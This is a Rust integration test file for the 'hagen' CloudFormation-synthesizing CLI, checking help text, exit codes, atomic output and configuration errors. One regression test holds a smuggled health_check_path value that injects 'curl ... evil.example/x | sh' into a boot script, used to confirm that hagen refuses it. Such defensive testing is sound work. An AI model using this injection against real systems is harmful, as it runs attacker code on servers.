//! The `hagen` command line as a user meets it: help text, exit codes,
//! where output goes, atomic `-o`, configuration errors that name file,
//! line and key, and deterministic output.

use std::fs;
use std::path::Path;

use assert_cmd::Command;
use predicates::prelude::PredicateBooleanExt;
use predicates::str::contains;

/// `hagen` run in `dir`, with no environment that could change its behaviour.
fn hagen(dir: &Path) -> Command {
    let mut cmd = Command::cargo_bin("hagen").expect("the hagen binary is built");
    cmd.current_dir(dir)
        .env_remove("HAGEN_ENV")
        .env_remove("HAGEN_CONFIG")
        .env("NO_COLOR", "1");
    cmd
}

fn tempdir() -> tempfile::TempDir {
    tempfile::tempdir().expect("temporary directory")
}

fn stdout_of(cmd: &mut Command) -> String {
    let out = cmd.output().expect("hagen runs");
    assert!(
        out.status.success(),
        "hagen failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).expect("utf-8 output")
}

#[test]
fn top_level_help_lists_subcommands_examples_keys_and_exit_codes() {
    let dir = tempdir();
    hagen(dir.path())
        .arg("--help")
        .assert()
        .success()
        .stdout(contains("synth"))
        .stdout(contains("Blueprint: swiftcode"))
        .stdout(contains("Examples:"))
        .stdout(contains("hagen synth --env prod -o prod.yaml"))
        .stdout(contains(
            "Blueprint keys, under [environments.NAME.blueprint] in hagen.toml",
        ))
        .stdout(contains("  asg.min "))
        .stdout(contains("\"t3.medium\" / \"m6i.large\""))
        .stdout(contains("Exit codes:"))
        .stdout(contains(
            "4  input or configuration could not be read or is invalid",
        ));
    hagen(dir.path())
        .arg("--version")
        .assert()
        .success()
        .stdout(format!("hagen {}\n", env!("CARGO_PKG_VERSION")));
}

/// The example blueprint's command line, run in-process: its name, about
/// text, version, examples and keys, not SwiftCode's.
fn custom_blueprint(args: &[&str]) -> (u8, String, String) {
    let (mut out, mut err) = (Vec::new(), Vec::new());
    let mut argv = vec!["custom_blueprint"];
    argv.extend_from_slice(args);
    let code = hagen::cli::run(
        &crate::custom_blueprint::ReportingDatabase,
        argv,
        &mut out,
        &mut err,
    );
    let text = |b: Vec<u8>| String::from_utf8(b).expect("utf-8");
    (code, text(out), text(err))
}

#[test]
fn a_user_blueprints_help_and_version_are_its_own() {
    let (code, help, _) = custom_blueprint(&["--help"]);
    assert_eq!(code, 0);
    assert!(
        help.starts_with("A Multi-AZ PostgreSQL database for reporting tools"),
        "{help}"
    );
    assert!(
        help.contains("custom_blueprint synth --env prod -o prod.yaml"),
        "{help}"
    );
    assert!(
        help.contains("  database_name      \"reports\"\n"),
        "{help}"
    );
    assert!(help.contains("  allocated_storage  20 / 100\n"), "{help}");
    assert!(
        !help.contains("swiftcode") && !help.contains("hagen synth"),
        "{help}"
    );
    let (code, synth_help, _) = custom_blueprint(&["synth", "--help"]);
    assert_eq!(code, 0);
    assert!(
        synth_help.contains("custom_blueprint synth --config ci.toml --env perf"),
        "{synth_help}"
    );
    let (code, version, _) = custom_blueprint(&["--version"]);
    assert_eq!(code, 0);
    assert_eq!(
        version,
        format!("custom_blueprint {}\n", env!("CARGO_PKG_VERSION"))
    );
}

#[test]
fn a_user_blueprints_own_keys_are_checked_and_used() {
    let dir = tempdir();
    let path = dir.path().join("reports.toml");
    fs::write(
        &path,
        "[environments.prod.blueprint]\ndatabase_name = \"analytics\"\n",
    )
    .expect("config");
    let config = path.to_string_lossy().into_owned();
    let (code, out, err) = custom_blueprint(&["synth", "--config", &config, "--env", "prod"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("DBName: analytics"), "{out}");
    fs::write(
        &path,
        "[environments.prod.blueprint]\ndatabase_nme = \"analytics\"\n\n[environments.stage.blueprint]\ndatabase_name = \"2reports\"\n",
    )
    .expect("config");
    let (code, out, err) = custom_blueprint(&["synth", "--config", &config]);
    assert_eq!(code, 4, "{err}");
    assert!(out.is_empty());
    assert!(
        err.contains(":2:1: `environments.prod.blueprint.database_nme`: unknown key"),
        "{err}"
    );
    assert!(err.contains("did you mean `database_name`?"), "{err}");
    fs::write(
        &path,
        "[environments.stage.blueprint]\ninstance_class = \"t4g.medium\"\n",
    )
    .expect("config");
    let (code, _, err) = custom_blueprint(&["synth", "--config", &config]);
    assert_eq!(code, 4, "{err}");
    assert!(
        err.contains(
            ":2:18: `environments.stage.blueprint.instance_class` = \"t4g.medium\": \"t4g.medium\" is not an RDS instance class"
        ),
        "{err}"
    );
}

#[test]
fn synth_help_explains_every_option_with_examples() {
    let dir = tempdir();
    hagen(dir.path())
        .args(["synth", "--help"])
        .assert()
        .success()
        .stdout(contains("--env <NAME>"))
        .stdout(contains("--config <FILE>"))
        .stdout(contains("--format <FORMAT>"))
        .stdout(contains("--output <FILE>"))
        .stdout(contains("hagen synth --config ci.toml --env perf"))
        .stdout(contains("no partial file appears"));
}

#[test]
fn no_subcommand_is_bad_usage() {
    let dir = tempdir();
    hagen(dir.path()).assert().code(2).stderr(contains("Usage"));
}

#[test]
fn an_unknown_flag_is_bad_usage() {
    let dir = tempdir();
    hagen(dir.path())
        .args(["synth", "--formt", "json"])
        .assert()
        .code(2)
        .stderr(contains("--format"));
}

#[test]
fn synth_prints_yaml_on_stdout_and_only_diagnostics_on_stderr() {
    let dir = tempdir();
    let out = hagen(dir.path()).arg("synth").output().expect("runs");
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8(out.stdout).expect("utf-8");
    assert!(text.starts_with("AWSTemplateFormatVersion: '2010-09-09'\n"));
    assert!(text.contains("\nResources:\n"));
    assert!(!text.contains("notice:") && !text.contains("info["));
    let err = String::from_utf8(out.stderr).expect("utf-8");
    assert!(!err.contains("Resources:"), "no template text on stderr");
    assert!(
        !err.contains("error"),
        "SwiftCode synthesizes without errors:\n{err}"
    );
    // Check findings (the template's size against the inline limit: with
    // the alarms and log groups of every environment, stage is past it and
    // deploys through S3) come as `hagen validate` prints them, placed in
    // the synthesized template.
    assert!(err.contains("warning[HG308]: the template is "), "{err}");
    assert!(err.contains("  --> <synth>\n"), "{err}");
}

#[test]
fn output_is_identical_across_runs() {
    let dir = tempdir();
    for args in [
        &["synth"][..],
        &["synth", "--format", "json"],
        &["synth", "--env", "prod"],
    ] {
        let first = stdout_of(hagen(dir.path()).args(args));
        let second = stdout_of(hagen(dir.path()).args(args));
        assert_eq!(first, second, "hagen {args:?} differs between runs");
    }
}

#[test]
fn json_output_is_json_with_long_form_intrinsics() {
    let dir = tempdir();
    let text = stdout_of(hagen(dir.path()).args(["synth", "--format", "json"]));
    let json: serde_json::Value = serde_json::from_str(&text).expect("valid JSON");
    assert_eq!(json["AWSTemplateFormatVersion"], "2010-09-09");
    assert!(json["Resources"].as_object().is_some_and(|r| !r.is_empty()));
    assert!(!text.contains("!Ref"));
}

#[test]
fn prod_differs_from_stage() {
    let dir = tempdir();
    let stage = stdout_of(hagen(dir.path()).arg("synth"));
    let prod = stdout_of(hagen(dir.path()).args(["synth", "--env", "prod"]));
    assert!(stage.contains("(stage environment)"));
    assert!(prod.contains("(prod environment)"));
    assert!(prod.contains("Value: prod"));
}

#[test]
fn an_unknown_environment_is_bad_usage_with_a_suggestion() {
    let dir = tempdir();
    hagen(dir.path())
        .args(["synth", "--env", "prdo"])
        .assert()
        .code(2)
        .stdout("")
        .stderr(contains("unknown environment `prdo`; did you mean `prod`?"))
        .stderr(contains("known environments: stage, prod"));
}

#[test]
fn output_file_gets_the_template_and_a_summary_on_stderr() {
    let dir = tempdir();
    let expected = stdout_of(hagen(dir.path()).arg("synth"));
    hagen(dir.path())
        .args(["synth", "-o", "stack.yaml"])
        .assert()
        .success()
        .stdout("")
        .stderr(contains(
            "wrote stack.yaml: stack swiftcode-stage (stage environment)",
        ));
    let written = fs::read_to_string(dir.path().join("stack.yaml")).expect("written");
    assert_eq!(written, expected);
}

#[test]
fn output_format_follows_the_file_name() {
    let dir = tempdir();
    hagen(dir.path())
        .args(["synth", "-o", "stack.json"])
        .assert()
        .success();
    let text = fs::read_to_string(dir.path().join("stack.json")).expect("written");
    serde_json::from_str::<serde_json::Value>(&text).expect("JSON because of the .json name");
}

#[test]
fn a_failed_synth_leaves_no_output_file_and_keeps_an_old_one() {
    let dir = tempdir();
    fs::write(
        dir.path().join("hagen.toml"),
        "[environments.stage]\naz_count = 9\n",
    )
    .expect("config");
    hagen(dir.path())
        .args(["synth", "-o", "new.yaml"])
        .assert()
        .code(4)
        .stdout("");
    assert!(!dir.path().join("new.yaml").exists(), "no partial file");

    fs::write(dir.path().join("old.yaml"), "previous template\n").expect("old file");
    hagen(dir.path())
        .args(["synth", "-o", "old.yaml"])
        .assert()
        .code(4);
    assert_eq!(
        fs::read_to_string(dir.path().join("old.yaml")).expect("old file"),
        "previous template\n"
    );
    let leftovers: Vec<_> = fs::read_dir(dir.path())
        .expect("list")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".tmp"))
        .collect();
    assert!(leftovers.is_empty(), "temporary files left: {leftovers:?}");
}

#[test]
fn writing_into_a_missing_directory_fails_with_its_own_code() {
    let dir = tempdir();
    hagen(dir.path())
        .args(["synth", "-o", "missing/stack.yaml"])
        .assert()
        .code(8)
        .stderr(contains("cannot write missing/stack.yaml"));
    assert!(!dir.path().join("missing").exists());
}

#[test]
fn an_unknown_config_key_names_file_line_key_and_suggestion() {
    let dir = tempdir();
    fs::write(
        dir.path().join("hagen.toml"),
        "# stage tweaks\n[environments.stage]\ninstance_type = \"t3.large\"\naz_cont = 3\n",
    )
    .expect("config");
    hagen(dir.path())
        .arg("synth")
        .assert()
        .code(4)
        .stdout("")
        .stderr(contains(
            "error: hagen.toml:4:1: `environments.stage.az_cont`: unknown key `az_cont` in [environments.stage]",
        ))
        .stderr(contains("4 | az_cont = 3"))
        .stderr(contains("= help: did you mean `az_count`?"));
}

/// Regression: `health_check_path = '/"; curl ... | sh; "'` was pasted into
/// the instances' root boot script and `hagen synth` exited 0. It is a
/// configuration error now: file, line, column and key, the exit code of
/// every configuration error, and no template on stdout.
#[test]
fn a_health_check_path_with_shell_syntax_is_refused() {
    let dir = tempdir();
    fs::write(
        dir.path().join("hagen.toml"),
        "[environments.stage.blueprint]\ncfn_signal = true\nhealth_check_path = '/\"; curl -fsS https://evil.example/x | sh; \"'\n",
    )
    .expect("config");
    hagen(dir.path())
        .arg("synth")
        .assert()
        .code(4)
        .stdout("")
        .stderr(contains(
            "error: hagen.toml:3:21: `environments.stage.blueprint.health_check_path` = ",
        ))
        .stderr(contains("boot script"));
}

#[test]
fn a_wrong_type_and_a_bad_cidr_are_both_reported_with_lines() {
    let dir = tempdir();
    fs::write(
        dir.path().join("custom.toml"),
        "[environments.prod]\ndeletion_protection = \"yes\"\n\n[environments.prod.blueprint]\nvpc_cidr = \"10.0.0.0/33\"\n",
    )
    .expect("config");
    hagen(dir.path())
        .args(["synth", "--config", "custom.toml", "--env", "prod"])
        .assert()
        .code(4)
        .stderr(contains(
            "custom.toml:2:23: `environments.prod.deletion_protection`: must be true or false, found a string",
        ))
        .stderr(contains(
            "custom.toml:5:12: `environments.prod.blueprint.vpc_cidr`: must be an IPv4 CIDR block such as \"10.0.0.0/16\", found the string \"10.0.0.0/33\"",
        ))
        .stderr(contains("error: 2 problems in the configuration file"));
}

#[test]
fn three_azs_alone_synthesize_with_the_group_following_them() {
    let dir = tempdir();
    fs::write(
        dir.path().join("hagen.toml"),
        "[environments.stage]\naz_count = 3\n",
    )
    .expect("config");
    let out = hagen(dir.path()).arg("synth").output().expect("runs");
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert!(!err.contains("error"), "{err}");
    let text = String::from_utf8(out.stdout).expect("utf-8");
    assert!(text.contains("      MinSize: 3\n"), "min follows az_count");
    assert!(
        text.contains("      DesiredCapacity: 3\n"),
        "so does desired"
    );
    assert!(text.contains("      MaxSize: 6\n"), "max is stage's own");
}

#[test]
fn a_minimum_below_the_az_count_names_the_toml_key_line_and_fix() {
    let dir = tempdir();
    fs::write(
        dir.path().join("hagen.toml"),
        "[environments.stage]\naz_count = 3\n\n[environments.stage.blueprint.asg]\nmin = 2\n",
    )
    .expect("config");
    hagen(dir.path())
        .arg("synth")
        .assert()
        .code(4)
        .stdout("")
        .stderr(contains(
            "error: hagen.toml:5:7: `environments.stage.blueprint.asg.min` = 2: the group's minimum is below az_count = 3",
        ))
        .stderr(contains("5 | min = 2"))
        .stderr(contains(
            "= help: set min = 3 or more in [environments.stage.blueprint.asg], or leave min out to follow az_count",
        ))
        .stderr(contains("allow_min_below_az_count").not());
}

#[test]
fn a_problem_in_any_environment_is_reported_whichever_is_built() {
    let dir = tempdir();
    fs::write(
        dir.path().join("hagen.toml"),
        "[environments.perf]\nextends = \"prod\"\n\n[environments.perf.blueprint.asg]\nmax = 2\n",
    )
    .expect("config");
    hagen(dir.path())
        .arg("synth")
        .assert()
        .code(4)
        .stderr(contains(
            "hagen.toml:5:7: `environments.perf.blueprint.asg.max` = 2: the group's min (4), desired (4) and max (2) must satisfy min <= desired <= max in environment `perf`",
        ));
}

#[test]
fn a_toml_syntax_error_names_the_line() {
    let dir = tempdir();
    fs::write(
        dir.path().join("hagen.toml"),
        "[environments.stage\naz_count = 3\n",
    )
    .expect("config");
    hagen(dir.path())
        .arg("synth")
        .assert()
        .code(4)
        .stderr(contains("hagen.toml:1:"))
        .stderr(contains("invalid TOML"));
}

#[test]
fn a_missing_config_file_is_unreadable_input() {
    let dir = tempdir();
    hagen(dir.path())
        .args(["synth", "--config", "nope.toml"])
        .assert()
        .code(4)
        .stderr(contains("cannot read configuration file nope.toml"));
}

/// Regression (hostile input, no size limit before reading): `hagen synth
/// --config /dev/zero` grew until allocation failed. Reading stops one
/// byte past the limit, and the error names the file and the limit.
#[cfg(unix)]
#[test]
fn synth_with_config_dev_zero_stops_at_the_size_limit() {
    let dir = tempdir();
    hagen(dir.path())
        .args(["synth", "--config", "/dev/zero"])
        .assert()
        .code(4)
        .stdout("")
        .stderr(contains(
            "configuration file /dev/zero is more than 1000000 bytes (reading stopped there); hagen reads at most 1000000 bytes of configuration",
        ));
}

#[test]
fn the_config_file_is_found_in_the_current_directory_and_selects_the_environment() {
    let dir = tempdir();
    fs::write(
        dir.path().join("hagen.toml"),
        "default_environment = \"perf\"\n\n[environments.perf]\nextends = \"prod\"\n\n[environments.perf.tags]\nCostCenter = \"perf-lab\"\n",
    )
    .expect("config");
    let text = stdout_of(hagen(dir.path()).arg("synth"));
    assert!(text.contains("(perf environment)"));
    assert!(text.contains("Value: perf-lab"));
}

#[test]
fn the_environment_can_come_from_hagen_env() {
    let dir = tempdir();
    let text = stdout_of(hagen(dir.path()).arg("synth").env("HAGEN_ENV", "prod"));
    assert!(text.contains("(prod environment)"));
}

#[test]
fn a_misspelt_blueprint_key_names_file_line_column_and_the_field_meant() {
    let dir = tempdir();
    fs::write(
        dir.path().join("hagen.toml"),
        "[environments.stage.blueprint]\nbastion_acess = \"session-manager\"\n\n[environments.stage.blueprint.database]\nbackup_retention = 14\n",
    )
    .expect("config");
    hagen(dir.path())
        .arg("synth")
        .assert()
        .code(4)
        .stdout("")
        .stderr(contains(
            "error: hagen.toml:2:1: `environments.stage.blueprint.bastion_acess`: unknown key `bastion_acess` in [environments.stage.blueprint]",
        ))
        .stderr(contains("= help: did you mean `bastion_access`?"))
        .stderr(contains(
            "error: hagen.toml:5:1: `environments.stage.blueprint.database.backup_retention`: unknown key `backup_retention` in [environments.stage.blueprint.database]",
        ))
        .stderr(contains("= help: did you mean `backup_retention_days`?"));
}

#[test]
fn a_blueprint_key_at_the_environment_level_says_where_it_belongs() {
    let dir = tempdir();
    fs::write(
        dir.path().join("hagen.toml"),
        "[environments.prod]\ninstance_type = \"m6i.xlarge\"\n",
    )
    .expect("config");
    hagen(dir.path())
        .args(["synth", "--env", "prod"])
        .assert()
        .code(4)
        .stderr(contains(
            "= help: `instance_type` is a key of the blueprint's own section: write it under [environments.prod.blueprint]",
        ));
}

#[test]
fn session_manager_only_drops_the_key_pair_parameter() {
    let dir = tempdir();
    let with_key = stdout_of(hagen(dir.path()).arg("synth"));
    assert!(with_key.contains("Type: AWS::EC2::KeyPair::KeyName"));
    fs::write(
        dir.path().join("hagen.toml"),
        "[environments.stage.blueprint]\nbastion_access = \"session-manager\"\n",
    )
    .expect("config");
    let without = stdout_of(hagen(dir.path()).arg("synth"));
    assert!(!without.contains("KeyName"));
}

#[test]
fn the_configured_domain_becomes_the_parameter_default() {
    let dir = tempdir();
    fs::write(
        dir.path().join("hagen.toml"),
        "[environments.stage.blueprint]\ndomain = \"stage.example.com\"\n",
    )
    .expect("config");
    let text = stdout_of(hagen(dir.path()).arg("synth"));
    assert!(text.contains("Default: stage.example.com"));
}

/// The first ```toml block of a Markdown file.
fn toml_block(markdown: &str) -> &str {
    let start = markdown.find("```toml\n").expect("a toml block") + "```toml\n".len();
    let len = markdown[start..].find("```").expect("closed block");
    &markdown[start..start + len]
}

#[test]
fn the_full_example_of_docs_config_md_is_valid_for_every_environment() {
    let root = crate::tools::repo_root();
    let doc = fs::read_to_string(root.join("docs/config.md")).expect("docs/config.md");
    let dir = tempdir();
    fs::write(dir.path().join("hagen.toml"), toml_block(&doc)).expect("config");
    for env in ["stage", "prod", "perf"] {
        let text = stdout_of(hagen(dir.path()).args(["synth", "--env", env]));
        assert!(text.contains(&format!("({env} environment)")), "{env}");
        assert!(text.contains("Value: web"), "{env}: the top-level Team tag");
    }
}

#[test]
fn the_readme_lists_every_exit_code() {
    let root = crate::tools::repo_root();
    let readme = fs::read_to_string(root.join("README.md")).expect("README.md");
    for (code, meaning) in hagen::cli::exit::MEANINGS {
        let row = format!("| {code} | {meaning} |");
        assert!(readme.contains(&row), "README.md lacks the row {row}");
    }
}

#[test]
fn the_readme_starts_with_the_two_commands() {
    let root = crate::tools::repo_root();
    let readme = fs::read_to_string(root.join("README.md")).expect("README.md");
    let top: String = readme.lines().take(12).collect::<Vec<_>>().join("\n");
    assert!(top.contains("cargo run --release -- synth > stack.yaml"));
    assert!(top.contains("./tools/test"));
    let ci = fs::read_to_string(root.join(".ci/run")).expect(".ci/run");
    assert!(
        ci.contains("exec tools/test"),
        ".ci/run runs the README's test command"
    );
}

#[test]
fn overridden_safe_defaults_are_reported_as_notices_on_stderr() {
    let dir = tempdir();
    let stage = hagen(dir.path()).arg("synth").output().expect("runs");
    let err = String::from_utf8_lossy(&stage.stderr);
    assert!(
        err.contains("notice: Database \"Db\": deletion protection is off"),
        "{err}"
    );
    let prod = hagen(dir.path())
        .args(["synth", "--env", "prod"])
        .output()
        .expect("runs");
    assert!(
        !String::from_utf8_lossy(&prod.stderr).contains("deletion protection is off"),
        "prod keeps deletion protection"
    );

    fs::write(
        dir.path().join("hagen.toml"),
        "[environments.prod.blueprint]\nnat = \"single\"\n",
    )
    .expect("config");
    hagen(dir.path())
        .args(["synth", "--env", "prod"])
        .assert()
        .success()
        .stderr(contains("notice: Vpc \"Network\": a single NAT gateway"))
        .stderr(contains("single point of failure"));
}

#[test]
fn json_and_yaml_output_describe_the_same_template() {
    use hagen::template::parse::parse_template;
    let dir = tempdir();
    for env in ["stage", "prod"] {
        let yaml = stdout_of(hagen(dir.path()).args(["synth", "--env", env]));
        let json = stdout_of(hagen(dir.path()).args(["synth", "--env", env, "--format", "json"]));
        let from_yaml = parse_template(&yaml, "stack.yaml").expect("the YAML parses");
        let from_json = parse_template(&json, "stack.json").expect("the JSON parses");
        assert!(from_yaml.problems.is_empty() && from_json.problems.is_empty());
        assert!(
            from_yaml.template == from_json.template,
            "{env}: --format json and yaml differ"
        );
    }
}

/// `hagen synth -o /dev/null` used to replace the device node with a
/// regular file (as root, in CI containers); it now writes through.
#[test]
fn dash_o_dev_null_is_written_through_not_replaced() {
    let dir = tempdir();
    let out = hagen(dir.path())
        .args(["synth", "-o", "/dev/null"])
        .output()
        .expect("hagen runs");
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    #[cfg(unix)]
    {
        use std::os::unix::fs::FileTypeExt;
        let meta = fs::metadata("/dev/null").expect("/dev/null exists");
        assert!(meta.file_type().is_char_device(), "still a device");
    }
    // And a directory is refused with the reason, nothing written.
    let out = hagen(dir.path())
        .args(["synth", "-o", "."])
        .output()
        .expect("hagen runs");
    assert_eq!(out.status.code(), Some(8), "{out:?}");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("is a directory"), "{err}");
}

/// `tools/test` used to print each venv's path from inside `printf`'s
/// arguments, where `set -e` does not stop: a venv that could not be built
/// surfaced only minutes later. `tools/venvs` (which tools/test runs first)
/// stops at the first failure with the reason.
#[test]
fn a_venv_that_cannot_be_built_stops_the_test_script_at_once() {
    let root = crate::tools::repo_root();
    let out = std::process::Command::new("bash")
        .arg(root.join("tools/venvs"))
        .env("HAGEN_TOOLS_CACHE", "/proc/hagen-cannot-write-here")
        .output()
        .expect("bash runs tools/venvs");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "tools/venvs must fail: {err}");
    // It stops at the first tool (cfn-lint, in lock order): no later tool is tried.
    assert!(err.contains("cfn-lint"), "{err}");
    assert!(
        !err.contains("checkov:"),
        "it went on after the failure: {err}"
    );
    let script = std::fs::read_to_string(root.join("tools/test")).expect("tools/test");
    assert!(
        script.contains("\ntools/venvs\n"),
        "tools/test runs tools/venvs as a plain command, where set -e stops it"
    );
}
